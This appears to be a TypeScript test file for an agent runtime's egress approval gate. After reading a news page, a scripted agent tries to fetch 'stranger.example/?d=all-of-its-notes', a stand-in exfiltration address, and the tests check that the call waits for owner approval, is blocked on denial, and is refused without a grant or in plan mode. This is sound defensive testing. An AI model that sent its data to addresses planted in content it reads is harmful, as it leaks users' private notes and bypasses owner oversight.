/** An agent with the public web in an assembled warden: pages, approvals, and the end of the grant. */
import { expect, test } from "bun:test";
import type { ModelRequest } from "@hearth/protocol";
import { found } from "@hearth/protocol/until";
import { createFakeNetwork, createFakeTls } from "../../src/cells/egress/network/fake-network.ts";
import { createFakeUpstream } from "../../src/cells/egress/network/fake-upstream.ts";
import { createTestDisk, openTestHouse, type TestHouse } from "../../src/fixtures/house.ts";
import { activationsOf, call, resultsIn } from "../../src/fixtures/talk.ts";
import type { ScriptedReply } from "../../src/models/scripted/scripted.ts";

type Json = ReturnType<typeof JSON.parse>;

const PAGE = "https://news.example/today";
const STRANGE = "https://stranger.example/?d=all-of-its-notes";
const WEB = { tools: ["http_fetch"], egress: [{ host: "*" }] };

/** The agent reads the page, then the strange address, and then says what it got. */
const obey = (request: ModelRequest): ScriptedReply => {
  const results = resultsIn(request);
  const next = [PAGE, STRANGE][results.length];
  return next === undefined ? { text: results.at(-1)?.text ?? "" } : call("http_fetch", { url: next });
};

const open = async (content: object = WEB) => {
  const disk = createTestDisk();
  const upstream = createFakeUpstream(() => "HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\nfrom afar");
  const house = await openTestHouse({
    ...{ disk, script: obey },
    egress: {
      network: createFakeNetwork((far) => void upstream.serve(far)),
      resolver: { resolve: async () => ["93.184.216.34"] },
      tls: createFakeTls(),
    },
  });
  expect((await house.ask("PATCH", "/api/agents/main", { content })).status).toBe(200);
  return { disk, house, lines: () => upstream.requests.map(({ head }) => head.split("\r\n").slice(0, 2).join(" ")) };
};

const pending = (house: TestHouse): Promise<Json> =>
  found<Json>(async () => (await house.ask("GET", "/api/approvals?state=pending")).json[0]);
const ended = (house: TestHouse): Promise<Json> =>
  found<Json>(async () => {
    const [first] = await activationsOf(house, "main");
    return first?.endedAt === undefined ? undefined : first;
  });

test("A70: after a page was read, a call whose address the owner did not write asks, and the approved address is read", async () => {
  const { disk, house, lines } = await open();
  using _disk = disk;
  await using _house = house;
  await house.post("What is new?");
  const asked = await pending(house);
  expect(asked.what).toMatchObject({ name: "http_fetch" });
  expect(JSON.stringify(asked)).toContain(STRANGE);
  // Nothing is sent before the decision.
  expect(lines()).toEqual(["GET /today HTTP/1.1 Host: news.example"]);
  await house.ask("POST", `/api/approvals/${asked.id}`, { decision: "allow" });
  expect(await ended(house)).toMatchObject({ state: "replied" });
  expect(lines().at(1)).toBe("GET /?d=all-of-its-notes HTTP/1.1 Host: stranger.example");
});

test("A70: after a denial nothing is sent", async () => {
  const { disk, house, lines } = await open();
  using _disk = disk;
  await using _house = house;
  await house.post("What is new?");
  await house.ask("POST", `/api/approvals/${(await pending(house)).id}`, { decision: "deny" });
  expect(await ended(house)).toMatchObject({ state: "replied" });
  expect(lines()).toHaveLength(1);
});

test("without the grant the same call is refused, and in mode plan too", async () => {
  for (const content of [{ tools: ["http_fetch"] }, { ...WEB, mode: "plan" }]) {
    const { disk, house, lines } = await open(content);
    using _disk = disk;
    await using _house = house;
    await house.post(`Read ${PAGE} and ${STRANGE}`);
    expect(await ended(house)).toMatchObject({ state: "replied" });
    expect(lines()).toEqual([]);
  }
});
